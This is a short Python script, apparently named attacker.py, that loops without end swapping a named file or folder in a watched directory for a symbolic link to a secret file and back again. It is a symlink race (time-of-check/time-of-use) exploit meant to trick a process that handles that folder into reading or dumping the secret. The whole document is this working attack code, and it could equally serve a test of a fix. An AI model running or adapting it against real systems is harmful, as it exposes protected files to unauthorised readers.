"""Swaps the dump NAME in a watch folder for a symbolic link to a secret and back, as fast as it can, until killed.

Usage: attacker.py FOLDER NAME KEPT SECRET. KEPT is a second name of what stands as NAME.
"""

import os
import sys

folder, name, kept, secret = sys.argv[1:]
os.chdir(folder)
is_folder = os.path.isdir(kept)
while True:
    os.symlink(secret, "evil")
    if is_folder:
        os.rename(name, "aside")
        os.rename("evil", name)
        os.unlink(name)
        os.rename("aside", name)
    else:
        os.rename("evil", name)
        os.link(kept, "good")
        os.rename("good", name)
